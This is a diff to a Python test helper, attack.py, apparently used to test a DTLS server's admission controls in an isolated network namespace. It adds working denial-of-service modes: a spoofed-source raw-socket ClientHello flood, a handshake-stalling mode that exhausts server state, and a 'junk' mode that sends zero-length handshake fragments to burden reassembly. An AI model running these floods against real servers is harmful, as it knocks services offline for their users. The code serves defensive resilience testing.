@@ -44,6 +44,45 @@ network namespace (root needed for raw and packet sockets); it never sends anywh
         truncated   a length field that points past the datagram's end
         oversized   a body larger than TLS allows (sent as IP fragments)
 
+  attack.py hello-storm --dst IP --port P --hello FILE --first-src IP --sources N
+                        --rate R --seconds S
+      Like hello-flood, but every packet is built before the first is sent (the checksums
+      are patched per source address and port, not recomputed), so one Python process
+      keeps up with thousands a second; packets go out in small bursts on a fixed schedule.
+      Prints "flooding" when it starts sending and, at the end, one line with hellos=N,
+      took_ms=T and rate=R (datagrams a second actually achieved); exits 0.
+
+  attack.py stall --dst IP --port P --hello FILE --srcs IP,IP,... --ports-each K
+                  [--hold S]
+      Opens K UDP sockets on each of --srcs and drives a real handshake on each one as far as
+      a peer can without the key: a ClientHello (a fresh random per socket, no cookie), then,
+      on the server's HelloVerifyRequest, the same ClientHello again with the cookie inserted
+      (message_seq 1, next record sequence number), and waits for the server's flight
+      (ServerHello first). Then it stops answering: every socket holds a proven handshake
+      that never finishes. A socket whose handshake the server refused asks again every
+      second, for --prove-for seconds (20 by default). Prints "proven=N of M in T ms", then
+      holds the sockets open (so the server's resends find a socket, not an ICMP error) for S
+      seconds or until SIGTERM, and exits 0 (also when some were never proven: the line says
+      how many were).
+
+      With --churn C, instead of holding: every socket proves a new handshake (a new
+      random) again and again for C seconds, a round every --round-every seconds at most
+      (as fast as it goes by default), so none is ever older than one round; prints
+      "churning" after the first round and "churned rounds=N handshakes=M slowest_ms=T".
+      Sources may be IPv6 addresses.
+
+  attack.py junk --dst IP --port P --hello FILE --src IP --count N --size B --rate R
+                 [--zero-frags Z] [--zero-last M]
+      One socket from --src proves its address as `stall` does (ClientHello, echoed cookie,
+      the server's flight), then sends N datagrams of about B bytes at R a second. The last
+      M (all by default) begin with epoch-0 handshake records holding Z zero-length handshake
+      fragments (12-byte headers with length and fragment_length 0 and ever new message_seq
+      and fragment_offset values: nothing to reassemble, everything to keep, and each new one
+      makes a reassembler that sums what it keeps do more work); every datagram is filled up
+      to B with epoch-1 handshake records of random bytes (a Finished before any
+      ClientKeyExchange, which a server that queues next-epoch records keeps whole). Prints "proven" once the flight came,
+      then "sent junk=N bytes=M in T ms" and exits 0.
+
 Python standard library only; shares the capture and raw-packet helpers of inject.py.
 """
 
@@ -355,6 +394,274 @@ def spoof(args):
     return 0
 
 
+# ---- hello-storm, stall, junk (tests/admission.rs) ----
+
+HANDSHAKE_HELLO_VERIFY_REQUEST, HANDSHAKE_SERVER_HELLO = 3, 2
+HS_HEADER = 12
+
+
+def _csum_add(total, data):
+    if len(data) % 2:
+        data += b"\0"
+    return total + sum(struct.unpack("!%dH" % (len(data) // 2), data))
+
+
+def _csum_fold(total):
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def hello_storm(args):
+    hello = load_hello(args.hello)
+    if hello is None:
+        return 1
+    first = struct.unpack("!I", socket.inet_aton(args.first_src))[0]
+    dst = socket.inet_aton(args.dst)
+    total = int(args.rate * args.seconds)
+    udp_len = 8 + len(hello)
+    # Sums of the words that are the same in every packet: UDP (pseudo header without the
+    # source, header without the source port, payload) and IP (header without source, id).
+    udp_base = _csum_add(0, dst + struct.pack("!BBHHH", 0, 17, udp_len, args.port, udp_len) + hello)
+    ip_base = _csum_add(0, struct.pack("!BBHHBB", 0x45, 0, 20 + udp_len, 0, 64, 17) + dst)
+    packets = []
+    for n in range(total):
+        src_n = first + n % args.sources
+        src = struct.pack("!I", src_n)
+        sport = 20000 + n // args.sources
+        ident = n & 0xFFFF
+        src_sum = (src_n >> 16) + (src_n & 0xFFFF)
+        ucsum = _csum_fold(udp_base + src_sum + sport) or 0xFFFF
+        icsum = _csum_fold(ip_base + src_sum + ident)
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, ident, 0, 64, 17, icsum, src, dst)
+        packets.append(ip + struct.pack("!HHHH", sport, args.port, udp_len, ucsum) + hello)
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    target = (args.dst, 0)
+    last = socket.inet_ntoa(struct.pack("!I", first + min(total, args.sources) - 1))
+    print(f"flooding {args.dst}:{args.port} from {args.first_src} to {last}", flush=True)
+    started = time.monotonic()
+    late = 0
+    for n, packet in enumerate(packets):
+        if n % 8 == 0:
+            ahead = started + n / args.rate - time.monotonic()
+            if ahead > 0:
+                time.sleep(ahead)
+            elif ahead < -0.05:
+                late += 1
+        while True:
+            try:
+                raw.sendto(packet, target)
+                break
+            except BlockingIOError:
+                time.sleep(0.0005)
+    took = time.monotonic() - started
+    raw.close()
+    print(
+        f"sent hellos={total} from {min(total, args.sources)} source addresses to "
+        f"{args.dst}:{args.port} in {took:.2f}s (took_ms={int(took * 1000)} rate={total / took:.0f} "
+        f"late_bursts={late})",
+        flush=True,
+    )
+    return 0
+
+
+def hello_with(hello, random32, cookie, message_seq, record_seq):
+    """The captured ClientHello with another random, `cookie` in place of its own, and the
+    given message_seq and record sequence number (one record, one unfragmented message)."""
+    rec_len = struct.unpack("!H", hello[11:13])[0]
+    hs = hello[RECORD_HEADER_LEN : RECORD_HEADER_LEN + rec_len]
+    body = hs[HS_HEADER : HS_HEADER + int.from_bytes(hs[1:4], "big")]
+    at = 34 + 1 + body[34]  # version(2) random(32) session_id<0..32>
+    new = body[:2] + random32 + body[34:at] + bytes([len(cookie)]) + cookie + body[at + 1 + body[at] :]
+    n = len(new).to_bytes(3, "big")
+    msg = bytes([HANDSHAKE_CLIENT_HELLO]) + n + struct.pack("!H", message_seq) + b"\0\0\0" + n + new
+    return record(CONTENT_HANDSHAKE, hello[1:3], 0, record_seq, msg)
+
+
+def hvr_cookie(dg):
+    """The cookie of a HelloVerifyRequest datagram, or None."""
+    if len(dg) < RECORD_HEADER_LEN + HS_HEADER + 3 or dg[0] != CONTENT_HANDSHAKE:
+        return None
+    if dg[RECORD_HEADER_LEN] != HANDSHAKE_HELLO_VERIFY_REQUEST:
+        return None
+    at = RECORD_HEADER_LEN + HS_HEADER + 2
+    return dg[at + 1 : at + 1 + dg[at]]
+
+
+def is_server_hello(dg):
+    return len(dg) > RECORD_HEADER_LEN and dg[0] == CONTENT_HANDSHAKE and dg[RECORD_HEADER_LEN] == HANDSHAKE_SERVER_HELLO
+
+
+def prove(socks, hello, dst, timeout):
+    """Drives each socket's handshake to the server's flight (see `stall`); returns how many
+    got there. Resends the current step every second, as a client would."""
+    import selectors
+
+    sel = selectors.DefaultSelector()
+    state = {}
+    for s in socks:
+        s.setblocking(False)
+        while True:  # what an earlier round left behind must not count for this one
+            try:
+                s.recv(65535)
+            except OSError:
+                break
+        rnd = os.urandom(32)
+        first = hello_with(hello, rnd, b"", 0, 0)
+        state[s] = {"random": rnd, "next": first, "done": False}
+        sel.register(s, selectors.EVENT_READ)
+    deadline = time.monotonic() + timeout
+    resend_at = 0.0
+    proven = 0
+    while proven < len(socks) and time.monotonic() < deadline:
+        now = time.monotonic()
+        if now >= resend_at:
+            for s, st in state.items():
+                if not st["done"]:
+                    try:
+                        s.sendto(st["next"], dst)
+                    except OSError:
+                        pass
+            resend_at = now + 1.0
+        for key, _ in sel.select(0.05):
+            s, st = key.fileobj, state[key.fileobj]
+            while True:
+                try:
+                    dg = s.recv(65535)
+                except (BlockingIOError, InterruptedError):
+                    break
+                except OSError:
+                    break
+                if st["done"]:
+                    continue
+                cookie = hvr_cookie(dg)
+                if cookie:
+                    st["next"] = hello_with(hello, st["random"], cookie, 1, 1)
+                    s.sendto(st["next"], dst)
+                elif is_server_hello(dg):
+                    st["done"] = True
+                    proven += 1
+    return proven
+
+
+def stall(args):
+    hello = load_hello(args.hello)
+    if hello is None:
+        return 1
+    import resource
+    import signal
+
+    srcs = args.srcs.split(",")
+    want = len(srcs) * args.ports_each + 64
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < want:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, want), max(hard, want)))
+    dst = (args.dst, args.port)
+    socks = []
+    for src in srcs:
+        family = socket.AF_INET6 if ":" in src else socket.AF_INET
+        for _ in range(args.ports_each):
+            s = socket.socket(family, socket.SOCK_DGRAM)
+            s.bind((src, 0))
+            socks.append(s)
+    started = time.monotonic()
+    proven = prove(socks, hello, dst, args.prove_for)
+    took = time.monotonic() - started
+    print(f"proven={proven} of {len(socks)} in {int(took * 1000)} ms", flush=True)
+    stop = []
+    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
+    if args.churn:
+        # Every socket starts over (a new random, so a new handshake) round after round: no
+        # handshake of ours is ever older than a round.
+        rounds, again, slowest = 0, 0, 0.0
+        until = time.monotonic() + args.churn
+        while not stop and time.monotonic() < until:
+            t = time.monotonic()
+            again += prove(socks, hello, dst, 5.0)
+            rounds += 1
+            slowest = max(slowest, time.monotonic() - t)
+            pause = t + args.round_every - time.monotonic()
+            if pause > 0 and not stop:
+                time.sleep(pause)
+            if rounds == 1:
+                print(f"churning: round 1 took {int(slowest * 1000)} ms", flush=True)
+        print(f"churned rounds={rounds} handshakes={again} slowest_ms={int(slowest * 1000)}", flush=True)
+        for s in socks:
+            s.close()
+        return 0
+    until = time.monotonic() + args.hold
+    while not stop and time.monotonic() < until:
+        time.sleep(0.1)
+    for s in socks:
+        s.close()
+    return 0
+
+
+def zero_fragments(first_seq, count, typ):
+    """`count` handshake headers of zero length (length 0, fragment_length 0, no body), each
+    with its own message_seq from `first_seq` on (3 and up: past the ClientHellos' and never
+    the one a server waits for next) and its own nonzero fragment_offset. A reassembler that
+    keeps every fragment it has not used keeps a header's worth of state for each of them,
+    and its size limits, which count fragment bytes, count nothing."""
+    out = bytearray()
+    for j in range(count):
+        seq = first_seq + j
+        out += bytes([typ]) + b"\0\0\0" + struct.pack("!H", 3 + seq % 0xFFF0)
+        out += (1 + (seq * 7) % 0xFFFF).to_bytes(3, "big") + b"\0\0\0"
+    return bytes(out)
+
+
+def junk(args):
+    hello = load_hello(args.hello)
+    if hello is None:
+        return 1
+    dst = (args.dst, args.port)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((args.src, 0))
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    if prove([s], hello, dst, 10.0) != 1:
+        print("no flight from the server: the handshake was not proven", flush=True)
+        return 1
+    s.setblocking(True)
+    print(f"proven from {s.getsockname()[0]}:{s.getsockname()[1]}", flush=True)
+    if args.zero_last is None:
+        args.zero_last = args.count
+    per_record = 116  # 1392 bytes of headers: a record fits one 1500-byte IP packet
+    rseq, mseq, sent_bytes = 2, 0, 0
+    started = time.monotonic()
+    for i in range(args.count):
+        if i % 8 == 0:
+            ahead = started + i / args.rate - time.monotonic()
+            if ahead > 0:
+                time.sleep(ahead)
+        dg = bytearray()
+        left, r = (args.zero_frags if i >= args.count - args.zero_last else 0), 0
+        while left > 0:
+            n = min(left, per_record)
+            typ = [20, 11, 15, 0][r % 4]
+            dg += record(CONTENT_HANDSHAKE, DTLS12, 0, rseq, zero_fragments(mseq, n, typ))
+            rseq, mseq, left, r = rseq + 1, mseq + n, left - n, r + 1
+        # The rest: epoch-1 handshake records (a Finished before any key exchange), each of
+        # at most 1400 bytes, at least one.
+        eseq = i * 16
+        while True:
+            room = args.size - len(dg) - RECORD_HEADER_LEN
+            dg += record(CONTENT_HANDSHAKE, DTLS12, 1, eseq, os.urandom(max(48, min(room, 1400))))
+            eseq += 1
+            if args.size - len(dg) <= RECORD_HEADER_LEN + 48:
+                break
+        try:
+            s.sendto(dg, dst)
+        except OSError:
+            pass  # an ICMP error from an earlier send; go on
+        sent_bytes += len(dg)
+    took = time.monotonic() - started
+    print(f"sent junk={args.count} bytes={sent_bytes} in {int(took * 1000)} ms", flush=True)
+    s.close()
+    return 0
+
+
 def main():
     ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     sub = ap.add_subparsers(dest="mode", required=True)
@@ -386,8 +693,44 @@ def main():
     s.add_argument("--hello")
     s.add_argument("--hellos", type=int, default=0)
     s.add_argument("--rate", type=float, default=0)
+    st = sub.add_parser("hello-storm")
+    st.add_argument("--dst", required=True)
+    st.add_argument("--port", type=int, required=True)
+    st.add_argument("--hello", required=True)
+    st.add_argument("--first-src", required=True)
+    st.add_argument("--sources", type=int, required=True)
+    st.add_argument("--rate", type=float, required=True)
+    st.add_argument("--seconds", type=float, required=True)
+    sl = sub.add_parser("stall")
+    sl.add_argument("--dst", required=True)
+    sl.add_argument("--port", type=int, required=True)
+    sl.add_argument("--hello", required=True)
+    sl.add_argument("--srcs", required=True)
+    sl.add_argument("--ports-each", type=int, required=True)
+    sl.add_argument("--hold", type=float, default=60.0)
+    sl.add_argument("--churn", type=float, default=0.0)
+    sl.add_argument("--prove-for", type=float, default=20.0)
+    sl.add_argument("--round-every", type=float, default=0.0)
+    j = sub.add_parser("junk")
+    j.add_argument("--dst", required=True)
+    j.add_argument("--port", type=int, required=True)
+    j.add_argument("--hello", required=True)
+    j.add_argument("--src", required=True)
+    j.add_argument("--count", type=int, required=True)
+    j.add_argument("--size", type=int, required=True)
+    j.add_argument("--rate", type=float, required=True)
+    j.add_argument("--zero-frags", type=int, default=580)
+    j.add_argument("--zero-last", type=int, default=None)
     args = ap.parse_args()
-    modes = {"catch-hello": catch_hello, "flood": flood, "hello-flood": hello_flood, "spoof": spoof}
+    modes = {
+        "catch-hello": catch_hello,
+        "flood": flood,
+        "hello-flood": hello_flood,
+        "spoof": spoof,
+        "hello-storm": hello_storm,
+        "stall": stall,
+        "junk": junk,
+    }
     return modes[args.mode](args)
 
 
